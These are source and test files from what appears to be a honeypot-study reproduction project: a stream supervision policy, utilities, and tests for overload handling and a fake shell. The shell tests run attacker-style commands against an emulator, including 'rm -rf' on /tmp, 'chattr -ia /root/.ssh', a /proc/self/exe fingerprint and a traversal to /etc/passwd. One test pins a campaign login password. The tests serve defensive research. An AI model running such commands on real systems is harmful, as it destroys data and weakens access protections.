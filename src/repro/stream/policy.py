"""The stream engine's execution policy: supervision knobs + faults.

A :class:`StreamPolicy` is deliberately *not* part of
:class:`~repro.config.SimulationConfig`: like the ``workers`` knob it
describes how a run executes, never what data it produces on the
healthy path, so it stays out of config fingerprints and the serial ≡
parallel equivalence contract.  The batch serial engine is literally
the stream engine under :meth:`StreamPolicy.replay` (supervision
bypassed, zero per-event overhead); the live service mode runs under
:meth:`StreamPolicy.live` or a faulted variant.

The one exception to digest-neutrality is spelled out in
:mod:`repro.faults.stream`: active stream faults plus an attached
admission gate make shedding decisions that *do* shape the dataset —
deterministically, as a pure function of ``(seed, policy)`` — which is
why a checkpoint written in a degraded state records the fault
configuration and refuses to resume under a different one.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.faults.stream import StreamFaults
from repro.overload.watchdog import DeadlinePolicy


@dataclass(frozen=True)
class StreamPolicy:
    """Supervision configuration for one stream run.

    * ``supervised`` — False bypasses the supervision layer entirely
      (pure batch replay; required False path for ``run_simulation``'s
      serial engine, byte-identical and overhead-free).
    * ``queue_capacity`` / ``high_watermark`` — the bounded inter-stage
      queue; depth at the watermark raises backpressure level 1, a full
      queue raises level 2 (critical) and escalates to shed-only.
      ``high_watermark=None`` defaults to half the capacity.
    * ``heartbeat_deadline_s`` — virtual-time hard deadline for stage
      heartbeats, armed as a
      :class:`~repro.overload.watchdog.DeadlinePolicy` (soft at half);
      None disarms heartbeat supervision.
    * ``breaker_*`` — per-stage circuit-breaker thresholds and the
      seeded probe backoff base/cap.
    * ``tick_s`` — virtual seconds the stream clock advances per pushed
      event; all stall durations, skews and probe schedules are
      measured on this clock, never wall time.
    * ``online_clustering`` — feed stored command sequences through an
      :class:`~repro.analysis.online.OnlineClusterer` in the analysis
      stage (observational; deferred while the ladder is degraded).
    * ``faults`` — the seeded stream fault domain
      (:class:`~repro.faults.stream.StreamFaults`); non-inert faults
      require ``supervised=True``.
    """

    supervised: bool = True
    faults: StreamFaults = field(default_factory=StreamFaults)
    queue_capacity: int = 256
    high_watermark: int | None = None
    heartbeat_deadline_s: float | None = 8.0
    breaker_failure_threshold: int = 3
    breaker_recovery_s: float = 4.0
    breaker_max_backoff_s: float = 64.0
    tick_s: float = 0.05
    online_clustering: bool = False

    def __post_init__(self) -> None:
        if self.queue_capacity < 1:
            raise ValueError("queue_capacity must be at least 1")
        if self.high_watermark is not None and not (
            0 < self.high_watermark <= self.queue_capacity
        ):
            raise ValueError("high_watermark must be in (0, queue_capacity]")
        if self.breaker_failure_threshold < 1:
            raise ValueError("breaker_failure_threshold must be at least 1")
        if self.breaker_recovery_s <= 0:
            raise ValueError("breaker_recovery_s must be positive")
        if self.breaker_max_backoff_s < self.breaker_recovery_s:
            raise ValueError(
                "breaker_max_backoff_s must be >= breaker_recovery_s"
            )
        if self.tick_s <= 0:
            raise ValueError("tick_s must be positive")
        if not self.faults.inert and not self.supervised:
            raise ValueError(
                "stream faults require a supervised stream policy"
            )

    @property
    def effective_high_watermark(self) -> int:
        if self.high_watermark is not None:
            return self.high_watermark
        return max(1, self.queue_capacity // 2)

    def heartbeat_policy(self) -> DeadlinePolicy | None:
        return DeadlinePolicy.from_deadline(self.heartbeat_deadline_s)

    @classmethod
    def replay(cls) -> "StreamPolicy":
        """Batch replay: no supervision, no faults, no overhead."""
        return cls(supervised=False, heartbeat_deadline_s=None)

    @classmethod
    def live(cls, **overrides) -> "StreamPolicy":
        """The supervised live-service defaults (fault-free)."""
        return cls(**overrides)

    @classmethod
    def chaos(cls, **overrides) -> "StreamPolicy":
        """Supervised with the ``chaos`` fault preset and a shallow queue.

        The shallow queue makes consumer stalls reach the critical
        backpressure level at soak scale, so the full ladder — including
        shed-only — is exercised, not just analysis deferral.
        """
        overrides.setdefault("faults", StreamFaults.from_name("chaos"))
        overrides.setdefault("queue_capacity", 48)
        return cls(**overrides)

    @classmethod
    def from_name(cls, name: str) -> "StreamPolicy":
        """Resolve a named policy (CLI ``--stream-profile``)."""
        presets = {
            "replay": cls.replay,
            "live": cls.live,
            "chaos": cls.chaos,
        }
        try:
            return presets[name]()
        except KeyError:
            known = ", ".join(sorted(presets))
            raise ValueError(
                f"unknown stream profile {name!r} (known: {known})"
            ) from None
