"""Plain-text rendering helpers shared by experiment reports."""

from __future__ import annotations

from typing import Iterable, Sequence


def format_table(headers: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """Render rows as an aligned monospace table."""
    materialized = [[str(cell) for cell in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in materialized:
        for index, cell in enumerate(row):
            if index >= len(widths):
                widths.extend([0] * (index + 1 - len(widths)))
            widths[index] = max(widths[index], len(cell))
    def render(cells: Sequence[str]) -> str:
        padded = [cell.ljust(widths[i]) for i, cell in enumerate(cells)]
        return "  ".join(padded).rstrip()
    lines = [render(list(headers)), render(["-" * w for w in widths])]
    lines.extend(render(row) for row in materialized)
    return "\n".join(lines)


def ascii_bar(value: float, maximum: float, width: int = 40) -> str:
    """Render a single horizontal bar scaled to ``maximum``."""
    if maximum <= 0:
        return ""
    filled = int(round(width * max(0.0, min(value, maximum)) / maximum))
    return "#" * filled


def ascii_series(
    labels: Sequence[str], values: Sequence[float], width: int = 40
) -> str:
    """Render a labelled bar chart, one bar per label."""
    if len(labels) != len(values):
        raise ValueError("labels and values must have equal length")
    maximum = max(values, default=0.0)
    label_width = max((len(label) for label in labels), default=0)
    lines = []
    for label, value in zip(labels, values):
        bar = ascii_bar(value, maximum, width)
        lines.append(f"{label.ljust(label_width)} |{bar} {value:g}")
    return "\n".join(lines)


def percentage(part: float, whole: float) -> float:
    """Safe percentage with zero denominator handling."""
    if whole == 0:
        return 0.0
    return 100.0 * part / whole


def human_count(value: float) -> str:
    """Format a count the way the paper's axes do (K/M suffixes)."""
    if value >= 1_000_000:
        return f"{value / 1_000_000:.1f}M"
    if value >= 1_000:
        return f"{value / 1_000:.1f}K"
    return f"{value:.0f}"
