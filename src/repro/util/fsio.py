"""Atomic file writes shared by every artifact writer.

Checkpoints, session-log exports and sidecar manifests all go through
:func:`atomic_write_text`: the bytes land in a temp file in the target
directory, are fsync'ed, and are moved into place with ``os.replace``.
A process killed at any instant therefore leaves either the previous
file intact or the new file complete — never a half-written artifact.
"""

from __future__ import annotations

import os
from pathlib import Path


def atomic_write_text(path: Path | str, text: str) -> None:
    """Write ``text`` to ``path`` atomically (temp file + fsync + rename).

    The temp file lives next to the target (``<name>.tmp``) so the final
    rename stays within one filesystem.  Not safe for concurrent writers
    of the same path — every writer in this codebase is single-process
    per artifact.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    temp = path.with_name(path.name + ".tmp")
    with open(temp, "w", encoding="utf-8") as handle:
        handle.write(text)
        handle.flush()
        os.fsync(handle.fileno())
    os.replace(temp, path)
