"""Deterministic hierarchical random number streams.

The simulator derives thousands of independent random streams (one per
bot per day, per IP pool, per malware family, ...).  To make every run a
pure function of the master seed — regardless of iteration order — each
stream is keyed by a path of names and derived via SHA-256, never by
sharing a mutable ``random.Random`` across components.
"""

from __future__ import annotations

import hashlib
import random
from typing import Iterable


def derive_seed(master: int, *names: object) -> int:
    """Derive a 64-bit seed from a master seed and a path of names."""
    hasher = hashlib.sha256()
    hasher.update(str(master).encode("utf-8"))
    for name in names:
        hasher.update(b"\x00")
        hasher.update(str(name).encode("utf-8"))
    return int.from_bytes(hasher.digest()[:8], "big")


class RngTree:
    """A node in a deterministic tree of random streams.

    ``child(*names)`` returns a new :class:`RngTree` whose streams are
    independent of the parent's and of any sibling's.  ``rand()`` returns
    a ``random.Random`` seeded for this node; repeated calls return fresh
    generators with the same seed (so a node's stream is replayable).
    """

    def __init__(self, seed: int, path: tuple[str, ...] = ()) -> None:
        self._seed = seed
        self._path = path

    @property
    def path(self) -> tuple[str, ...]:
        return self._path

    @property
    def seed(self) -> int:
        return derive_seed(self._seed, *self._path)

    def child(self, *names: object) -> "RngTree":
        """Return the child node at ``names`` below this node."""
        return RngTree(self._seed, self._path + tuple(str(n) for n in names))

    def rand(self) -> random.Random:
        """Return a fresh ``random.Random`` for this node."""
        return random.Random(self.seed)

    def rand_for(self, *names: object) -> random.Random:
        """Return ``child(*names).rand()`` without building the child node.

        The hot-path twin of :meth:`child` + :meth:`rand`: seed
        derivation is identical (one SHA-256 over the concatenated
        path), but no intermediate ``RngTree`` or path tuple of strings
        is allocated.  Used for per-record streams (transport retry
        jitter, admission coin flips) where the allocation shows up in
        profiles.
        """
        return random.Random(derive_seed(self._seed, *self._path, *names))

    def coin(self, *names: object) -> float:
        """One deterministic float in ``[0, 1)`` from the child stream.

        Exactly ``child(*names).rand().random()`` — the first draw of
        the derived stream — with the intermediate allocations of
        :meth:`rand_for` skipped too.
        """
        return random.Random(
            derive_seed(self._seed, *self._path, *names)
        ).random()

    def randint(self, low: int, high: int) -> int:
        """Convenience: one deterministic integer in ``[low, high]``."""
        return self.rand().randint(low, high)

    def uniform(self, low: float, high: float) -> float:
        """Convenience: one deterministic float in ``[low, high)``."""
        return self.rand().uniform(low, high)

    def choice(self, items: list) -> object:
        """Convenience: one deterministic choice from ``items``."""
        if not items:
            raise IndexError("cannot choose from an empty sequence")
        return self.rand().choice(items)


def batched_random(rng: random.Random, n: int) -> list[float]:
    """Draw ``n`` floats from ``rng`` in one pass.

    Sequence-equivalent to ``[rng.random() for _ in range(n)]`` — the
    generator state advances identically — but the method is bound once,
    which matters when the day loop batches thousands of draws.
    """
    draw = rng.random
    return [draw() for _ in range(n)]


def batched_uniform(
    rng: random.Random, n: int, low: float, high: float
) -> list[float]:
    """Draw ``n`` uniforms in ``[low, high)``; sequence-equivalent to
    ``[rng.uniform(low, high) for _ in range(n)]``."""
    draw = rng.random
    span = high - low
    return [low + draw() * span for _ in range(n)]


def batched_randrange(rng: random.Random, n: int, stop: int) -> list[int]:
    """Draw ``n`` integers in ``[0, stop)``; sequence-equivalent to
    ``[rng.randrange(stop) for _ in range(n)]``."""
    draw = rng.randrange
    return [draw(stop) for _ in range(n)]


def poisson(rng: random.Random, lam: float) -> int:
    """Sample a Poisson-distributed count.

    Uses Knuth's method for small ``lam`` and a normal approximation for
    large ``lam`` (exact enough for workload generation and far faster).
    """
    if lam < 0:
        raise ValueError("lambda must be non-negative")
    if lam == 0:
        return 0
    if lam > 50:
        value = int(round(rng.gauss(lam, lam ** 0.5)))
        return max(0, value)
    limit = 2.718281828459045 ** (-lam)
    k = 0
    product = rng.random()
    while product > limit:
        k += 1
        product *= rng.random()
    return k


def weighted_choice(rng: random.Random, weighted: Iterable[tuple[object, float]]) -> object:
    """Choose one item from ``(item, weight)`` pairs."""
    pairs = [(item, weight) for item, weight in weighted if weight > 0]
    if not pairs:
        raise ValueError("no items with positive weight")
    total = sum(weight for _, weight in pairs)
    point = rng.random() * total
    cumulative = 0.0
    for item, weight in pairs:
        cumulative += weight
        if point <= cumulative:
            return item
    return pairs[-1][0]
