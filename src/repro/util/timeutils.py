"""Calendar helpers for the 33-month observation window.

Most paper figures aggregate by month ("2022-03") or by day; these
helpers provide deterministic iteration over the window and stable keys.
"""

from __future__ import annotations

from datetime import date, datetime, timedelta, timezone
from typing import Iterator


def month_key(day: date) -> str:
    """Return the ``YYYY-MM`` key for a date (figure x-axis labels)."""
    return f"{day.year:04d}-{day.month:02d}"


def parse_month(key: str) -> date:
    """Parse a ``YYYY-MM`` key into the first day of that month."""
    year_text, _, month_text = key.partition("-")
    return date(int(year_text), int(month_text), 1)


def first_of_month(day: date) -> date:
    """Return the first day of ``day``'s month."""
    return day.replace(day=1)


def next_month(day: date) -> date:
    """Return the first day of the month after ``day``'s month."""
    if day.month == 12:
        return date(day.year + 1, 1, 1)
    return date(day.year, day.month + 1, 1)


def add_months(day: date, months: int) -> date:
    """Return the first of the month ``months`` after ``day``'s month."""
    index = day.year * 12 + (day.month - 1) + months
    return date(index // 12, index % 12 + 1, 1)


def months_between(start: date, end: date) -> list[str]:
    """Return all month keys from ``start``'s to ``end``'s month inclusive."""
    if start > end:
        raise ValueError("start must not be after end")
    keys = []
    cursor = first_of_month(start)
    stop = first_of_month(end)
    while cursor <= stop:
        keys.append(month_key(cursor))
        cursor = next_month(cursor)
    return keys


def days_between(start: date, end: date) -> Iterator[date]:
    """Yield every date from ``start`` to ``end`` inclusive."""
    if start > end:
        raise ValueError("start must not be after end")
    cursor = start
    one_day = timedelta(days=1)
    while cursor <= end:
        yield cursor
        cursor += one_day


def days_in_month(key: str) -> int:
    """Number of days in the month identified by a ``YYYY-MM`` key."""
    first = parse_month(key)
    return (next_month(first) - first).days


def month_fraction(key: str, start: date, end: date) -> float:
    """Fraction of the month ``key`` that falls inside ``[start, end]``.

    The first and last months of the window may be partial; rates defined
    per month must be prorated for them.
    """
    first = parse_month(key)
    last = next_month(first) - timedelta(days=1)
    lo = max(first, start)
    hi = min(last, end)
    if lo > hi:
        return 0.0
    return ((hi - lo).days + 1) / days_in_month(key)


def to_epoch(day: date, seconds_into_day: float = 0.0) -> float:
    """Convert a date (+offset) to a UTC POSIX timestamp."""
    moment = datetime(day.year, day.month, day.day, tzinfo=timezone.utc)
    return moment.timestamp() + seconds_into_day


def from_epoch(timestamp: float) -> datetime:
    """Convert a POSIX timestamp back to an aware UTC datetime."""
    return datetime.fromtimestamp(timestamp, tz=timezone.utc)


def epoch_date(timestamp: float) -> date:
    """Return the UTC calendar date of a POSIX timestamp."""
    return from_epoch(timestamp).date()


#: ``date(1970, 1, 1).toordinal()`` — the POSIX epoch as an ordinal.
_EPOCH_ORDINAL = date(1970, 1, 1).toordinal()


def epoch_ordinal(timestamp: float) -> int:
    """``epoch_date(timestamp).toordinal()`` without datetime objects.

    The collector calls this once per delivered record; integer floor
    division is an order of magnitude cheaper than the datetime path.
    """
    return _EPOCH_ORDINAL + int(timestamp // 86_400)


def quarter_key(day: date) -> str:
    """Return the ``YYYYQn`` quarter key used by Figure 9's x-axis."""
    return f"{day.year:04d}Q{(day.month - 1) // 3 + 1}"
