"""Shared utilities: deterministic RNG trees, calendar math, text tables."""

from repro.util.hashing import sha256_hex, short_hash
from repro.util.rng import RngTree, derive_seed, poisson, weighted_choice
from repro.util.text import ascii_bar, ascii_series, format_table, human_count, percentage
from repro.util.timeutils import (
    add_months,
    days_between,
    days_in_month,
    epoch_date,
    first_of_month,
    from_epoch,
    month_fraction,
    month_key,
    months_between,
    next_month,
    parse_month,
    quarter_key,
    to_epoch,
)

__all__ = [
    "RngTree",
    "derive_seed",
    "poisson",
    "weighted_choice",
    "sha256_hex",
    "short_hash",
    "ascii_bar",
    "ascii_series",
    "format_table",
    "human_count",
    "percentage",
    "add_months",
    "days_between",
    "days_in_month",
    "epoch_date",
    "first_of_month",
    "from_epoch",
    "month_fraction",
    "month_key",
    "months_between",
    "next_month",
    "parse_month",
    "quarter_key",
    "to_epoch",
]
