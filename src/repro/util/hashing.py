"""Hashing helpers: the honeypot records SHA-256 of file contents."""

from __future__ import annotations

import hashlib


def sha256_hex(payload: bytes | str) -> str:
    """Return the hex SHA-256 digest of ``payload``."""
    if isinstance(payload, str):
        payload = payload.encode("utf-8")
    return hashlib.sha256(payload).hexdigest()


def short_hash(payload: bytes | str, length: int = 12) -> str:
    """A short stable identifier derived from SHA-256."""
    if length < 1 or length > 64:
        raise ValueError("length must be in [1, 64]")
    return sha256_hex(payload)[:length]
