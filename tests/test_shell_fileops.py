"""File-manipulation commands and the fake filesystem."""

from __future__ import annotations

import pytest

from repro.honeypot.fs import FakeFilesystem
from repro.honeypot.session import FileOp
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.engine import ShellEngine


@pytest.fixture
def ctx():
    return ShellContext()


@pytest.fixture
def engine(ctx):
    return ShellEngine(ctx)


class TestFakeFilesystem:
    def test_normalize_relative(self):
        assert FakeFilesystem.normalize("f", "/tmp") == "/tmp/f"

    def test_normalize_tilde(self):
        assert FakeFilesystem.normalize("~/.ssh/keys", "/") == "/root/.ssh/keys"

    def test_normalize_dotdot(self):
        assert FakeFilesystem.normalize("../etc/passwd", "/tmp") == "/etc/passwd"

    def test_baseline_files_present(self):
        fs = FakeFilesystem()
        assert fs.is_file("/etc/passwd")
        assert fs.is_dir("/tmp")

    def test_write_and_read(self):
        fs = FakeFilesystem()
        node, created = fs.write("/tmp/a", b"x")
        assert created and fs.read("/tmp/a") == b"x"
        _, created2 = fs.write("/tmp/a", b"y")
        assert not created2 and fs.read("/tmp/a") == b"y"

    def test_write_creates_parents(self):
        fs = FakeFilesystem()
        fs.write("/tmp/deep/nested/file", b"x")
        assert fs.is_dir("/tmp/deep/nested")

    def test_delete_tree(self):
        fs = FakeFilesystem()
        fs.write("/tmp/d/a", b"1")
        fs.write("/tmp/d/b", b"2")
        doomed = fs.delete_tree("/tmp/d")
        assert sorted(doomed) == ["/tmp/d/a", "/tmp/d/b"]
        assert not fs.is_dir("/tmp/d")

    def test_listdir(self):
        fs = FakeFilesystem()
        fs.write("/tmp/x", b"")
        fs.mkdirs("/tmp/sub")
        entries = fs.listdir("/tmp")
        assert "x" in entries and "sub" in entries

    def test_chmod_exec(self):
        fs = FakeFilesystem()
        fs.write("/tmp/x", b"")
        assert fs.chmod_exec("/tmp/x")
        assert fs.get("/tmp/x").executable
        assert not fs.chmod_exec("/tmp/ghost")


class TestRm:
    def test_rm_single(self, ctx, engine):
        engine.run_line("echo x > /tmp/f")
        engine.run_line("rm /tmp/f")
        assert not ctx.fs.is_file("/tmp/f")
        assert any(e.op == FileOp.DELETE for e in ctx.file_events)

    def test_rm_rf_glob(self, ctx, engine):
        engine.run_line("echo a > /tmp/a; echo b > /tmp/b")
        engine.run_line("cd /tmp; rm -rf /tmp/*")
        assert not ctx.fs.is_file("/tmp/a")
        assert not ctx.fs.is_file("/tmp/b")

    def test_rm_missing_fails(self, engine):
        record = engine.run_line("rm /tmp/ghost")
        assert not engine.run_line("rm /tmp/ghost && echo ok").output

    def test_rm_rf_directory(self, ctx, engine):
        engine.run_line("mkdir /tmp/d; echo x > /tmp/d/f")
        engine.run_line("rm -rf /tmp/d")
        assert not ctx.fs.is_dir("/tmp/d")


class TestMvCpTouch:
    def test_mv(self, ctx, engine):
        engine.run_line("echo x > /tmp/src")
        engine.run_line("mv /tmp/src /tmp/dst")
        assert not ctx.fs.is_file("/tmp/src")
        assert ctx.fs.read("/tmp/dst") == b"x\n"

    def test_cp_keeps_source(self, ctx, engine):
        engine.run_line("echo x > /tmp/src")
        engine.run_line("cp /tmp/src /tmp/dst")
        assert ctx.fs.is_file("/tmp/src") and ctx.fs.is_file("/tmp/dst")

    def test_cp_into_directory(self, ctx, engine):
        engine.run_line("echo x > /tmp/src")
        engine.run_line("cp /tmp/src /var/tmp")
        assert ctx.fs.is_file("/var/tmp/src")

    def test_mv_missing_source(self, engine):
        assert "cannot stat" in engine.run_line("mv /tmp/ghost /tmp/x").output

    def test_touch_creates_empty(self, ctx, engine):
        engine.run_line("touch /tmp/new")
        assert ctx.fs.read("/tmp/new") == b""

    def test_touch_existing_not_truncated(self, ctx, engine):
        engine.run_line("echo keep > /tmp/f")
        engine.run_line("touch /tmp/f")
        assert ctx.fs.read("/tmp/f") == b"keep\n"


class TestDd:
    def test_urandom_deterministic_per_entropy(self):
        a = ShellContext(entropy="session-1")
        ShellEngine(a).run_line("dd if=/dev/urandom of=/tmp/r bs=32 count=1")
        b = ShellContext(entropy="session-1")
        ShellEngine(b).run_line("dd if=/dev/urandom of=/tmp/r bs=32 count=1")
        assert a.fs.read("/tmp/r") == b.fs.read("/tmp/r")

    def test_urandom_differs_across_sessions(self):
        a = ShellContext(entropy="session-1")
        ShellEngine(a).run_line("dd if=/dev/urandom of=/tmp/r bs=32 count=1")
        b = ShellContext(entropy="session-2")
        ShellEngine(b).run_line("dd if=/dev/urandom of=/tmp/r bs=32 count=1")
        assert a.fs.read("/tmp/r") != b.fs.read("/tmp/r")

    def test_copy_file(self, ctx, engine):
        engine.run_line("echo data > /tmp/in")
        engine.run_line("dd if=/tmp/in of=/tmp/out")
        assert ctx.fs.read("/tmp/out") == b"data\n"

    def test_fingerprint_form_no_event(self, ctx, engine):
        engine.run_line("dd bs=22 count=1 if=/proc/self/exe")
        assert ctx.file_events == []


class TestMiscOps:
    def test_sed_in_place_emits_modify(self, ctx, engine):
        engine.run_line("echo x > /tmp/f")
        engine.run_line("sed -i s/x/y/ /tmp/f")
        modifies = [e for e in ctx.file_events if e.op == FileOp.MODIFY]
        assert modifies

    def test_chattr_noop(self, engine):
        assert engine.run_line("chattr -ia /root/.ssh").known
