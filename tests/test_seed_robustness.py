"""The headline shapes must hold under a different seed.

Guards against results that are artefacts of one lucky random stream:
a second dataset with an independent seed must reproduce the paper's
qualitative findings.
"""

from __future__ import annotations

import pytest

from repro.analysis.categories import SessionCategory, category_counts
from repro.analysis.classify import DEFAULT_CLASSIFIER
from repro.analysis.logins import top_passwords
from repro.analysis.monthly import monthly_groups, overall_shares
from repro.analysis.statechange import ExecOutcome, StateClass, exec_outcome, state_class
from repro.analysis.validation import validate_classifier
from repro.config import DEFAULT_CONFIG
from repro.experiments.dataset import build_dataset


@pytest.fixture(scope="module")
def alt_dataset():
    return build_dataset(DEFAULT_CONFIG.replace(seed=23))


class TestSeedRobustness:
    def test_category_ordering(self, alt_dataset):
        counts = category_counts(alt_dataset.database.ssh_sessions())
        assert counts[SessionCategory.SCOUTING] == max(counts.values())
        assert (
            counts[SessionCategory.COMMAND_EXECUTION]
            > counts[SessionCategory.SCANNING]
        )

    def test_echo_ok_dominates_non_state(self, alt_dataset):
        sessions = [
            s
            for s in alt_dataset.database.command_sessions()
            if state_class(s) == StateClass.NON_STATE
        ]
        shares = overall_shares(
            monthly_groups(sessions, DEFAULT_CLASSIFIER.classify)
        )
        assert shares.get("echo_ok", 0.0) > 0.7

    def test_mdrfckr_dominates_state_no_exec(self, alt_dataset):
        sessions = [
            s
            for s in alt_dataset.database.command_sessions()
            if state_class(s) == StateClass.STATE_NO_EXEC
        ]
        shares = overall_shares(
            monthly_groups(sessions, DEFAULT_CLASSIFIER.classify)
        )
        assert shares.get("mdrfckr", 0.0) > 0.7

    def test_missing_exceeds_exists(self, alt_dataset):
        outcomes = [
            exec_outcome(s) for s in alt_dataset.database.command_sessions()
        ]
        missing = outcomes.count(ExecOutcome.FILE_MISSING)
        exists = outcomes.count(ExecOutcome.FILE_EXISTS)
        assert missing > exists

    def test_campaign_password_prominent(self, alt_dataset):
        logged_in = [
            s for s in alt_dataset.database.ssh_sessions() if s.login_succeeded
        ]
        top = dict(top_passwords(logged_in, 5))
        assert "3245gs5662d34" in top

    def test_classifier_agreement(self, alt_dataset):
        report = validate_classifier(alt_dataset.database.command_sessions())
        assert report.accuracy > 0.99

    def test_coverage(self, alt_dataset):
        coverage = DEFAULT_CLASSIFIER.coverage(
            alt_dataset.database.command_sessions()
        )
        assert coverage > 0.97
