"""Overload robustness: admission control, load-shedding, the watchdog.

Three layers of coverage:

* unit — the admission gate's verdicts, the deadline policy, the flood
  presets, and the collector's extended conservation accounting;
* differential — under flood the parallel engine must still equal the
  serial one byte for byte, whatever the worker count, and a flood that
  is switched *off* must leave every pre-overload byte (digest,
  fingerprint, checkpoint counters section) untouched;
* watchdog — injected hangs are survived via the retry → serial
  fallback ladder, and a hard deadline is honoured even when the
  fallback itself stalls.
"""

from __future__ import annotations

import dataclasses
import json
import time
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attackers.orchestrator import run_simulation
from repro.config import DEFAULT_CONFIG, SimulationConfig
from repro.faults.checkpoint import (
    config_fingerprint,
    read_checkpoint_counters,
    save_checkpoint,
)
from repro.faults.coverage import CoverageError, overload_note, validate_coverage
from repro.faults.plan import FaultProfile, FloodFaults, IntegrityFaults
from repro.honeynet.collector import Collector
from repro.honeypot.cowrie import DEFAULT_SESSION_TIMEOUT_S, CowrieHoneypot
from repro.honeypot.session import CommandRecord, FileEvent, FileOp
from repro.overload.admission import (
    ADMIT,
    DEFER,
    SHED,
    AdmissionController,
    build_admission_controller,
    record_priority,
)
from repro.overload.watchdog import DeadlinePolicy, ShardDeadlineExceeded
from repro.util.rng import RngTree
from tests.conftest import make_record, short_fault_config

#: ``config_fingerprint(DEFAULT_CONFIG)`` as pinned *before* the
#: overload subsystem existed.  The inert flood default must keep
#: reproducing exactly this, or every old checkpoint becomes unreadable.
PRE_OVERLOAD_FINGERPRINT = (
    "215c3cecf9f28eaaac6326435e568e4ed7c3a452c33ed057c9546d67be3a9b81"
)


def flood_config(preset: str, profile: str = "paper") -> SimulationConfig:
    """The SHORT_WINDOW differential config with a flood preset on."""
    config = short_fault_config(profile)
    return config.replace(
        faults=dataclasses.replace(
            config.faults, flood=FloodFaults.from_name(preset)
        )
    )


def tiny_flood_config(
    seed: int = 5,
    budget: int | None = 40,
    shed_probability: float = 0.5,
    burst_sessions: int = 300,
) -> SimulationConfig:
    """A four-day window that floods hard — fast enough for properties."""
    return SimulationConfig(
        seed=seed,
        scale=1e-4,
        start=date(2023, 3, 1),
        end=date(2023, 3, 4),
        faults=dataclasses.replace(
            FaultProfile.none(),
            flood=FloodFaults(
                burst_probability=0.8,
                burst_sessions=burst_sessions,
                daily_session_budget=budget,
                sensor_queue_capacity=4,
                shed_probability=shed_probability,
            ),
        ),
    )


def command_record(start: float, session_id: str, honeypot_id: str = "hp-000"):
    record = make_record(start, session_id, honeypot_id)
    record.commands.append(CommandRecord(raw="uname -a", known=True))
    return record


def file_record(start: float, session_id: str, honeypot_id: str = "hp-000"):
    record = command_record(start, session_id, honeypot_id)
    record.file_events.append(FileEvent("/tmp/x", FileOp.CREATE, "aa"))
    return record


class TestSessionTimeoutConstant:
    """Satellite: one canonical 180s constant, config derives from it."""

    def test_single_source_of_truth(self):
        assert DEFAULT_SESSION_TIMEOUT_S == 180.0
        field = CowrieHoneypot.__dataclass_fields__["timeout_s"]
        assert field.default == DEFAULT_SESSION_TIMEOUT_S
        assert SimulationConfig().session_timeout_s == DEFAULT_SESSION_TIMEOUT_S

    def test_config_tracks_honeypot_constant(self):
        config_field = SimulationConfig.__dataclass_fields__["session_timeout_s"]
        assert config_field.default is DEFAULT_SESSION_TIMEOUT_S


class TestFloodFaults:
    def test_default_is_inert(self):
        flood = FloodFaults()
        assert flood.inert and not flood.floods and not flood.gates

    def test_presets(self):
        assert FloodFaults.from_name("off").inert
        burst = FloodFaults.from_name("burst")
        assert burst.floods and burst.gates and not burst.inert
        storm = FloodFaults.from_name("storm")
        assert storm.burst_sessions > burst.burst_sessions
        assert storm.daily_session_budget < burst.daily_session_budget

    def test_unknown_preset_rejected(self):
        with pytest.raises(ValueError, match="unknown flood profile"):
            FloodFaults.from_name("tsunami")

    def test_validation(self):
        with pytest.raises(ValueError, match="burst_probability"):
            FloodFaults(burst_probability=1.5)
        with pytest.raises(ValueError, match="burst_sessions"):
            FloodFaults(burst_sessions=-1)
        with pytest.raises(ValueError, match="daily_session_budget"):
            FloodFaults(daily_session_budget=-1)
        with pytest.raises(ValueError, match="sensor_queue_capacity"):
            FloodFaults(sensor_queue_capacity=-1)

    def test_budget_without_bursts_still_gates(self):
        flood = FloodFaults(daily_session_budget=10)
        assert flood.gates and not flood.floods and not flood.inert

    def test_flood_stays_out_of_profile_repr(self):
        """repr=False keeps old checkpoint fingerprints valid."""
        base = FaultProfile.stress()
        flooded = dataclasses.replace(
            base, flood=FloodFaults.from_name("storm")
        )
        assert repr(flooded) == repr(base)
        assert "flood" not in repr(base)


class TestConfigFingerprint:
    def test_pre_overload_fingerprint_pinned(self):
        assert config_fingerprint(DEFAULT_CONFIG) == PRE_OVERLOAD_FINGERPRINT

    def test_active_flood_changes_fingerprint(self):
        flooded = DEFAULT_CONFIG.replace(
            faults=dataclasses.replace(
                DEFAULT_CONFIG.faults, flood=FloodFaults.from_name("burst")
            )
        )
        assert config_fingerprint(flooded) != PRE_OVERLOAD_FINGERPRINT

    def test_execution_knobs_do_not_change_fingerprint(self):
        tweaked = DEFAULT_CONFIG.replace(workers=4, shard_deadline_s=60.0)
        assert config_fingerprint(tweaked) == PRE_OVERLOAD_FINGERPRINT

    def test_shard_deadline_validated(self):
        with pytest.raises(ValueError, match="shard_deadline_s"):
            SimulationConfig(shard_deadline_s=0.0)


class TestRecordPriority:
    def test_noop_is_lowest(self):
        assert record_priority(make_record(0.0)) == 0

    def test_commands_rank_above_noops(self):
        assert record_priority(command_record(0.0, "c-1")) == 1

    def test_file_events_rank_highest(self):
        assert record_priority(file_record(0.0, "f-1")) == 2


class TestAdmissionController:
    def controller(self, budget=2, capacity=2, shed_probability=0.5, seed=1):
        return AdmissionController(
            budget=budget,
            queue_capacity=capacity,
            shed_probability=shed_probability,
            tree=RngTree(seed).child("overload"),
        )

    def test_under_budget_everything_admitted(self):
        gate = self.controller(budget=3)
        verdicts = [gate.offer(make_record(i, f"s-{i}")) for i in range(3)]
        assert verdicts == [ADMIT, ADMIT, ADMIT]

    def test_over_budget_noops_are_shed(self):
        gate = self.controller(budget=1)
        assert gate.offer(make_record(0, "s-0")) == ADMIT
        assert gate.offer(make_record(1, "s-1")) == SHED

    def test_over_budget_file_sessions_are_deferred(self):
        gate = self.controller(budget=0)
        assert gate.offer(file_record(0, "f-0")) == DEFER

    def test_command_coin_is_keyed_by_session_id(self):
        """The same session id gets the same verdict in any arrival
        order — the property that makes shedding shard-independent."""
        records = [command_record(i, f"cmd-{i}") for i in range(30)]
        gate_a = self.controller(budget=0, capacity=100)
        gate_b = self.controller(budget=0, capacity=100)
        forward = {r.session_id: gate_a.offer(r) for r in records}
        backward = {
            r.session_id: gate_b.offer(r) for r in reversed(records)
        }
        assert forward == backward
